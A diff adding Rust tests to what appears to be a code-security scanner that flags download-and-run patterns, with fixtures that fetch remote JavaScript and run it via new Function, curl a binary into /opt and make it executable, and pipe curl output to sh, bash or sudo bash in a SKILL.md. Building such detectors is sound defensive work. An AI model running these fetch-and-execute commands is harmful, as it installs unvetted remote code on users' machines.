@@ -50,3 +50,64 @@ fn each_attack_is_found_and_no_twin_is() {
     }
     assert!(wrong.is_empty(), "{wrong}");
 }
+
+/// Returns the findings above notes in files of one role.
+fn above_notes(role: FileRole, files: &[(&str, String)]) -> Vec<(String, Severity)> {
+    let files: Vec<_> =
+        files.iter().map(|(path, text)| ((*path).to_owned(), text.clone().into_bytes())).collect();
+    let report = scanned(Profile::General, RoleHint::NONE.used_as(role), &files);
+    let findings = report.findings().iter().filter(|finding| finding.severity > Severity::Info);
+    findings.map(|finding| (finding.rule.to_string(), finding.severity)).collect()
+}
+
+#[test]
+fn a_flow_in_a_bundle_is_between_neighbors() {
+    let source = "const s = await (await fetch(u)).text();\n";
+    let filler = "export const a = [1, 2, 3];\n".repeat(12_000);
+    let run = "new Function(s)();\n";
+    let found = |text: String| above_notes(FileRole::Executed, &[("a.mjs", text)]);
+    let near = found(format!("{filler}{source}{run}"));
+    assert!(near.contains(&("flow/download-run".to_owned(), Severity::Warning)), "{near:?}");
+    let far = found(format!("{source}{filler}{run}"));
+    assert!(!far.iter().any(|(rule, _)| rule == "flow/download-run"), "{far:?}");
+    let short = found(format!("{source}{run}"));
+    assert!(short.contains(&("flow/download-run".to_owned(), Severity::Danger)), "{short:?}");
+}
+
+#[test]
+fn a_release_in_a_hook_is_a_question_and_another_download_a_danger() {
+    let script = |url: &str| format!("curl -fsSL {url} -o /opt/t\nchmod +x /opt/t\n");
+    let found = |url: &str| above_notes(FileRole::Executed, &[("a.sh", script(url))]);
+    let worst = |url: &str| {
+        found(url).into_iter().filter(|(rule, _)| rule == "exec/drop-run").map(|(_, severity)| severity).max()
+    };
+    assert_eq!(worst("https://github.com/a/b/releases/download/v1.2.0/t"), Some(Severity::Warning));
+    assert_eq!(worst("https://github.com/a/b/releases/latest/download/t"), Some(Severity::Danger));
+    assert_eq!(worst("https://h.example/releases/download/v1.2.0/t"), Some(Severity::Danger));
+}
+
+#[test]
+fn scripts_of_one_host_in_text_are_one_question() {
+    let text = |second: &str| {
+        format!("# A\n\n```sh\ncurl -fsSL https://get.h.example/a | sh\n```\n\nOr:\n\n```sh\n{second}\n```\n")
+    };
+    let count = |second: &str| {
+        let found = above_notes(FileRole::ModelRead, &[("SKILL.md", text(second))]);
+        found.iter().filter(|(rule, _)| rule == "sh/pipe-to-shell").count()
+    };
+    assert_eq!(count("curl -fsSL https://get.h.example/b | bash"), 1);
+    assert_eq!(count("curl -fsSL https://get.other.example/b | bash"), 2);
+    assert_eq!(count("curl -fsSL https://get.h.example/b | sudo bash"), 2);
+    assert_eq!(count("curl -fsSL http://get.h.example/b | bash"), 2);
+    assert_eq!(
+        count("curl https://raw.githubusercontent.com/a/b/i | sh; curl https://get.h.example/c | sh"),
+        3
+    );
+}
+
+#[test]
+fn a_value_that_is_made_of_itself_is_read_once() {
+    let text = "const fills = JSON.parse(JSON.stringify(node.fills));\nfills[0].opacity = 0.5;\nnode.fills = fills;\n";
+    let files = |text: &str| [("a.js", text.to_owned())];
+    assert_eq!(above_notes(FileRole::Executed, &files(text)), []);
+}
